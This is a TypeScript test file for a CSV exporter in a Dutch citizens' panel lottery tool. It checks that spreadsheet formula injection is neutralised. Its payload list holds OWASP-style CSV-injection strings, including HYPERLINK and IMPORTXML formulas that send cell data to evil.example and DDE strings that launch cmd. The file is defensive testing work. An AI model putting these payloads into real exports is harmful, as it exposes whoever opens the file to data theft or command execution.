import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, csvNumber, neutralizeFormula, writeCsv, type CsvVariant } from '../../../shared/csv';
import type { PoolData } from '../../../shared/loting/model';
import { probabilitiesCsv, panelCsv, reservesCsv } from '../../../shared/loting/report';
import type { LotingResult } from '../../../shared/loting/result';

/** Payloads from the OWASP CSV-injection page and common variants, as a citizen could type them. */
const payloads = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
  '+31 6 12345678',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C notepad'!'A1'",
  '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
];

/** Reads a file as Excel would see the cells: BOM off, the variant's separator. */
function read(text: string, variant: CsvVariant = 'semicolon'): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const r = Papa.parse<string[]>(text.slice(1), {
    delimiter: variant === 'comma' ? ',' : ';',
    newline: '\r\n',
    skipEmptyLines: false,
  });
  expect(r.errors).toEqual([]);
  // The file ends in CRLF, which papaparse reads as one last empty row.
  expect(r.data.at(-1)).toEqual(['']);
  return r.data.slice(0, -1);
}

describe('shared/csv: the one CSV writer', () => {
  it('prefixes every text cell that a spreadsheet would run as a formula with a single quote', () => {
    for (const p of payloads) {
      expect(neutralizeFormula(p)).toBe(`'${p}`);
      const [[cell]] = read(writeCsv([[p]])) as [[string]];
      expect(cell).toBe(`'${p}`);
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    for (const safe of ['Jansen', '1234AB', 'a=b', ' =1', '']) expect(neutralizeFormula(safe)).toBe(safe);
  });

  it('leaves numbers written as numbers alone, with a decimal comma by default and a point as option', () => {
    expect(csvCell(-0.5)).toBe('-0,5');
    expect(csvCell(-0.5, 'comma')).toBe('-0.5');
    expect(csvCell(csvNumber(0.125, 6))).toBe('0,125000');
    expect(csvCell(csvNumber(0.125, 6), 'comma')).toBe('0.125000');
    expect(csvCell(12)).toBe('12');
    expect(csvCell(1e-7)).toBe('0,0000001');
    expect(csvCell(Number.NaN)).toBe('');
    // The same digits as text come from outside and are escaped.
    expect(csvCell('-0,5')).toBe("'-0,5");
  });

  it('semicolons, a BOM and CRLF by default; commas as option; quotes and newlines quoted', () => {
    const rows = [
      ['naam', 'adres', 'kans'],
      ['Jan "de" Vries', 'Dorpsstraat 1;\r\nDorp', csvNumber(0.5, 2)],
      ['a,b', 'c;d', 1],
    ];
    const semicolon = writeCsv(rows);
    expect(semicolon).toBe(
      '\uFEFFnaam;adres;kans\r\n"Jan ""de"" Vries";"Dorpsstraat 1;\r\nDorp";0,50\r\na,b;"c;d";1\r\n',
    );
    expect(read(semicolon)).toEqual([
      ['naam', 'adres', 'kans'],
      ['Jan "de" Vries', 'Dorpsstraat 1;\r\nDorp', '0,50'],
      ['a,b', 'c;d', '1'],
    ]);
    const comma = writeCsv(rows, { variant: 'comma' });
    expect(comma).toBe('\uFEFFnaam,adres,kans\r\n"Jan ""de"" Vries","Dorpsstraat 1;\r\nDorp",0.50\r\n"a,b",c;d,1\r\n');
    expect(read(comma, 'comma')[1]).toEqual(['Jan "de" Vries', 'Dorpsstraat 1;\r\nDorp', '0.50']);
    expect(writeCsv([['a']], { bom: false })).toBe('a\r\n');
  });

  it('any text round-trips through papaparse as the escaped text, in both variants', () => {
    const cell = fc.string({
      unit: fc.constantFrom('a', ' ', ';', ',', '"', '\r', '\n', '=', '+', '-', '@', '\t', "'", 'é'),
    });
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }),
        fc.constantFrom<CsvVariant>('semicolon', 'comma'),
        (rows, variant) => {
          const back = read(writeCsv(rows, { variant }), variant);
          expect(back).toEqual(rows.map((r) => r.map(neutralizeFormula)));
          for (const r of back) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('loting CSV exports (panel, reserves, probabilities)', () => {
  // Three respondents; the id and name columns come from a citizens' sign-up form.
  const poolData: PoolData = {
    columns: [
      { name: 'id', role: 'id' },
      { name: 'naam', role: 'keep' },
      { name: 'wijk', role: 'feature' },
    ],
    rows: [
      ['=1+1', '@SUM(A1)', 'Noord'],
      ['+31612345678', '-2+3', 'Zuid'],
      ['R3', 'Jan "Jantje" de Vries; jr.', 'Oost'],
    ],
  };
  const r = {
    panel: [0, 2],
    reserves: [1],
    replacements: [{ member: 0, reserve: 1, sameProfile: false }],
    probabilities: [0.5, 0.25, 0.125],
    legacy: { probabilities: [0.4, 0.3, 0.2] },
  } as unknown as LotingResult;
  const choice = { columns: ['naam'] };

  it('escape respondent data, keep our numbers, and open in Dutch Excel by default', () => {
    expect(read(panelCsv(r, poolData, choice))).toEqual([
      ['id', 'naam', 'kans', 'nummer'],
      ["'=1+1", "'@SUM(A1)", '0,500000', '1'],
      ['R3', 'Jan "Jantje" de Vries; jr.', '0,125000', '3'],
    ]);
    expect(read(reservesCsv(r, poolData, choice))).toEqual([
      ['volgorde', 'id', 'naam', 'vervangt'],
      ['1', "'+31612345678", "'-2+3", "'=1+1"],
    ]);
    expect(read(probabilitiesCsv(r, poolData))).toEqual([
      ['id', 'kans_leximin', 'kans_gretig', 'in_panel'],
      ["'=1+1", '0,500000', '0,400000', '1'],
      ["'+31612345678", '0,250000', '0,300000', '0'],
      ['R3', '0,125000', '0,200000', '1'],
    ]);
  });

  it('the comma variant is there as an option', () => {
    expect(read(probabilitiesCsv(r, poolData, 'comma'), 'comma')[1]).toEqual(["'=1+1", '0.500000', '0.400000', '1']);
    expect(read(panelCsv(r, poolData, choice, 'comma'), 'comma')[2]).toEqual([
      'R3',
      'Jan "Jantje" de Vries; jr.',
      '0.125000',
      '3',
    ]);
    expect(read(reservesCsv(r, poolData, choice, 'comma'), 'comma')[0]).toEqual(['volgorde', 'id', 'naam', 'vervangt']);
  });
});
